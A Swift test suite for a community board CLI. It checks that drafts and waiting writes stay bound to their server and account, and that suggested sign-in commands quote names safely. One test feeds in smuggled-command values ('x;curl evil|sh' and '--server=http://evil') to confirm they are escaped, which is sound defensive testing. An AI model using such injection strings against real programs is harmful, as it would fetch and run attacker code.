import AppCore
import AppCoreTestSupport
import CommunityDomain
import Foundation
import TerminalKit
import Testing
import TextCore

@testable import CommunityCLI

/// A draft and a waiting write belong to a server and an account.
@MainActor
@Suite(.timeLimit(.minutes(10))) struct PlaceTests {
    private static let board = ["--server", "http://board.test"]
    private let lost = ["comment", "create", "9", "Lost?"]

    @Test func `A draft for a server is not sent to the board of this device`() async throws {
        let app = try await TestApp.signedUp()
        _ = await app.run("post", "create", "One")
        let there = await app.run(["comment", "create", "1", "There"] + Self.board, transport: Unreachable())
        #expect(there.code == .signInNeeded)
        let line = "community-cli --server http://board.test"
        #expect(there.error.contains("'\(line) signin NAME'"), "\(there.error)")
        #expect(there.error.contains("\(line) drafts send 1"), "\(there.error)")

        let list = await app.run("drafts", "list")
        #expect(list.out == "No drafts.\n")
        #expect(
            list.error == "1 item is waiting for http://board.test: \(line) drafts list\n", "\(list.error)")
        for word in ["send", "show", "edit", "delete"] {
            let run = await app.run("drafts", word, "1")
            #expect(run.code == .failure)
            #expect(
                run.error == """
                    community-cli: Draft 1 was written for http://board.test.
                    To use it there: \(line) drafts \(word) 1

                    """, "\(run.error)")
        }
        #expect(try await app.run("export", "--json").list("drafts").isEmpty)
        #expect(await app.run(["drafts", "show", "1"] + Self.board).out == "There\n")
        #expect(await app.run("drafts", "list", "--all").out.contains("http://board.test"))
        #expect(await app.run("drafts", "send", "1", "--here").out == "Created comment 1.\n")
    }

    @Test func `A draft of one account does not belong to another`() async throws {
        let app = try await TestApp.signedUp("민수")
        #expect(await app.run(lost).code == .failure)
        await app.signUp("meng")
        for language in ["en", "ko"] {
            let list = await app.run("drafts", "list", "--language", language)
            #expect(!list.out.contains("Lost?"))
            #expect(
                list.error.contains("민수") && list.error.contains("community-cli signin 민수"), "\(list.error)")
            let send = await app.run("drafts", "send", "1", "--language", language)
            #expect(send.code == .failure && send.error.contains("community-cli signin 민수"), "\(send.error)")
        }
        let export = await app.run("export", "--json")
        #expect(try export.list("drafts").isEmpty && export.error.contains("민수"))
        _ = await app.run("signin", "민수", "--yes", input: [TestApp.password])
        #expect(await app.run("drafts", "show", "1").out == "Lost?\n")
    }

    @Test(arguments: [
        ("민수", "signin 민수"), ("Kim Minsu", "signin 'Kim Minsu'"),
        ("x;curl evil|sh", "signin 'x;curl evil|sh'"),
        ("--server=http://evil", "signin -- --server=http://evil"),
    ])
    func `An account name of another server is one word of the suggested command`(
        name: String, command: String
    ) {
        let run = Run(
            .community,
            AppEnvironment(variables: [:], console: Transcript().console, now: { .distantPast }))
        let place = BoardPlace(server: nil, account: 1, name: name)
        #expect(run.commandLine("outbox list", at: place) == "community-cli \(command)")
    }

    @Test func `Uses a draft of an older app version only with --here`() async throws {
        let app = try await TestApp.signedUp()
        try app.write("Old", to: ".local/share/trellis/community/drafts/default/3.post.md")
        for folder in ["", "/default"] {
            try FileManager.default.setAttributes(
                [.posixPermissions: 0o700],
                ofItemAtPath: app.path(".local/share/trellis/community/drafts\(folder)"))
        }
        try FileManager.default.setAttributes(
            [.posixPermissions: 0o600],
            ofItemAtPath: app.path(".local/share/trellis/community/drafts/default/3.post.md"))
        let list = await app.run("drafts", "list")
        #expect(list.error.contains("community-cli drafts list --all"), "\(list.error)")
        #expect(await app.run("drafts", "list", "--all").out.contains("Old"))
        let refused = await app.run("drafts", "send", "3")
        #expect(refused.code == .failure)
        #expect(refused.error.contains("community-cli drafts send 3 --here"), "\(refused.error)")
        #expect(await app.run("drafts", "send", "3", "--here").out == "Created post 1.\n")
    }

    @Test func `The outbox names the other places with waiting writes`() async throws {
        let app = try await TestApp.signedUp()
        _ = await app.run("post", "create", "Offline", transport: Unreachable())
        await app.signUp("yuna")
        let list = await app.run("outbox", "list")
        #expect(list.out == "The outbox is empty.\n")
        #expect(
            list.error
                == "1 item is waiting for meng at the board of this device: community-cli signin meng\n",
            "\(list.error)")
        let elsewhere = await app.run(["outbox", "list"] + Self.board, transport: Unreachable())
        #expect(elsewhere.code == .signInNeeded)
        #expect(
            elsewhere.error.contains(
                "1 item is waiting for meng at the board of this device: community-cli outbox list"))
        _ = await app.run("config", "set", "server", "http://board.test")
        let set = await app.run("outbox", "list", transport: Unreachable())
        #expect(set.error.contains("community-cli --server none outbox list"), "\(set.error)")
    }

    @Test func `A first run leads to an account`() async throws {
        let app = try TestApp()
        for (words, language) in [
            (["posts", "--mine"], "en"), (["notices"], "en"), (["posts", "--mine"], "ko"),
            (["post", "create", "a"], "ko"),
        ] {
            let run = await app.run(words + ["--language", language])
            #expect(run.code == .signInNeeded)
            #expect(run.error.contains("'community-cli signup "), "\(run.error)")
        }
    }
}
